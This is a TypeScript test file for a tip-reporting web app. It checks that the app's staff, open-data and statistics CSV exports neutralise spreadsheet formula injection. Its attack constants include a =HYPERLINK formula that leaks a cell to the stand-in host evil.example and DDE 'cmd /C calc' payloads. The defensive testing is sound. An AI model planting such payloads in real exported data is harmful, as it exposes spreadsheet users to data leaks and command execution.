import { randomBytes } from "node:crypto";
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { guardCsvText } from "../../app/domain/csv-text";
import type { StaffContext } from "../../app/lib/staff-session.server";
import { routedTip as builtRoutedTip, staffMember } from "../support/builders";
import { publishTestRelease } from "../support/releases";
import { signedInCookie } from "../support/staff";

// CSV formula injection (issue #10 item 7): every CSV the app writes guards text that a
// spreadsheet would run as a formula, read back here as a spreadsheet importer reads it.

let m: typeof import("../../app/lib/db.server") &
  typeof import("../../app/services/file-tip.server") &
  typeof import("../../app/services/triage-route.server") &
  typeof import("../../app/services/published-outcomes.server") &
  typeof import("../../app/services/statistics-download.server") & {
    exportRoute: typeof import("../../app/routes/staff.cases[.csv]");
  };
let desk: StaffContext;
let officer: StaffContext;

const RUN = randomBytes(4).toString("hex");
const HYPERLINK = `=HYPERLINK("https://evil.example/?leak="&A2,"详情${RUN}")`;
const ATTACKS = [HYPERLINK, `+cmd|' /C calc'!A0 ${RUN}`, `-2+3+cmd|' /C calc'!A0 ${RUN}`, `@SUM(1+1)*cmd ${RUN}`, `\t=1+2 ${RUN}`, `\r=1+2 ${RUN}`];
const Y = String(2100 + Math.floor(Math.random() * 800));

const read = (text: string) => parseCsv(text.replace(/^\uFEFF/, ""), { columns: true, skip_empty_lines: true, relax_quotes: false }) as Record<string, string>[];

async function routedTip(companyName: string) {
  const routed = await builtRoutedTip(desk, { tip: { companyName, content: { description: "公式注入测试：储罐区报警器拆除，夜间仍在装卸作业。" } } });
  return routed.reference;
}

beforeAll(async () => {
  m = {
    ...(await import("../../app/lib/db.server")),
    ...(await import("../../app/services/file-tip.server")),
    ...(await import("../../app/services/triage-route.server")),
    ...(await import("../../app/services/published-outcomes.server")),
    ...(await import("../../app/services/statistics-download.server")),
    exportRoute: await import("../../app/routes/staff.cases[.csv]"),
  };
  desk = await staffMember("triage_officer", "safety_committee", "330000");
  officer = await staffMember("agency_officer", "emergency_management", "330106");
});
afterAll(async () => m?.closeDb());

describe("CSV formula guard", () => {
  it("the SQL csv_field() of the outcomes download applies the same rule as the app, and quotes as before", async () => {
    const inputs = [...ATTACKS, "=a,b", '=say "hi"', "=line\nbreak", "杭州某化工有限公司", "a, b", 'say "hi"', "-", "", "'=already"];
    const sql = m.sqlClient();
    for (const v of inputs) {
      const [row] = await sql<{ field: string }[]>`select csv_field(${v}) as field`;
      const [parsed] = parseCsv(row!.field + "\n", { relax_column_count: true }) as string[][];
      expect(parsed ?? [""], JSON.stringify(v)).toEqual([guardCsvText(v)]);
    }
    const [nul] = await sql<{ field: string }[]>`select csv_field(null) as field`;
    expect(nul!.field).toBe("");
  });

  it("/staff/cases.csv: a company named =HYPERLINK(…) (or +, -, @, tab, CR) comes out as text", async () => {
    const refs = new Map<string, string>();
    for (const a of ATTACKS) refs.set(await routedTip(a), a);
    const cookie = await signedInCookie(officer.staffId);
    const res = (await m.exportRoute.loader({ request: new Request("http://canary.test/staff/cases.csv", { headers: { cookie } }), params: {}, context: { clientAddress: "127.0.0.1" } })) as Response;
    expect(res.status).toBe(200);
    const rows = read(await res.text());
    for (const [reference, company] of refs) {
      const row = rows.find((r) => r.reference === reference);
      expect(row?.company_name).toBe(`'${company}`);
      // The other columns are untouched: a date, the state.
      expect(row?.submitted_on).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(row?.state).toBe("assigned");
    }
  });

  it("/open-data/outcomes.csv: a public summary starting with = or - is guarded; numbers stay numbers", async () => {
    const filed = await m.fileTip({
      submissionId: randomBytes(16).toString("base64url"),
      channel: "web",
      captcha: "not_required",
      files: [],
      tip: { sectorCode: "pollution", placeCode: "330106", companyName: `公式${RUN}`, content: { description: "公式注入测试：凌晨偷排废水，厂区北门向东两百米。" }, majorHazard: false, concealedAccident: false, officialsImplicated: false, tipsterWorksThere: false },
    });
    const sql = m.sqlClient();
    await sql`update tips set state = 'closed', submitted_on = ${`${Y}-01-02`}, concluded_on = ${`${Y}-02-01`}, closed_on = ${`${Y}-02-10`} where reference = ${filed.reference}`;
    const [tip] = await sql`select id from tips where reference = ${filed.reference}`;
    await sql`insert into case_outcomes ${sql({ tip_id: tip!.id, finding: "substantiated", fine_cny: 5000, public_summary_zh: HYPERLINK, public_summary_en: `-fined, rectified ${RUN}` })}`;
    const text = await new Response(m.publishedOutcomesCsv({ from: `${Y}-01-01`, to: `${Y}-12-31` })).text();
    const row = read(text).find((r) => r.reference === filed.reference);
    expect(row?.public_summary_zh).toBe(`'${HYPERLINK}`);
    expect(row?.public_summary_en).toBe(`'-fined, rectified ${RUN}`);
    expect(row?.fine_cny).toBe("5000");
    expect(row?.closed_on).toBe(`${Y}-02-10`);
  });

  it("the statistics CSV: an agency named =HYPERLINK(…) is guarded; its figures stay numbers", async () => {
    const sql = m.sqlClient();
    const agencyId = officer.agency!.id;
    const [before] = await sql<{ name_zh: string }[]>`select name_zh from agencies where id = ${agencyId}`;
    try {
      await sql`update agencies set name_zh = ${HYPERLINK} where id = ${agencyId}`;
      await routedTip(`统计公式测试${RUN}`);
      // The download is of the current statistics release (issue 16): publish one with the agency so named.
      await publishTestRelease();
      const text = await m.statisticsCsv({ place: "330106", period: 0, table: "agency" });
      const row = read(text!).find((r) => r.key === agencyId);
      expect(row?.name_zh).toBe(`'${HYPERLINK}`);
      expect(row?.cases_held).toMatch(/^(\d+|<5|\*|—)$/);
    } finally {
      await sql`update agencies set name_zh = ${before!.name_zh} where id = ${agencyId}`;
    }
  });
});
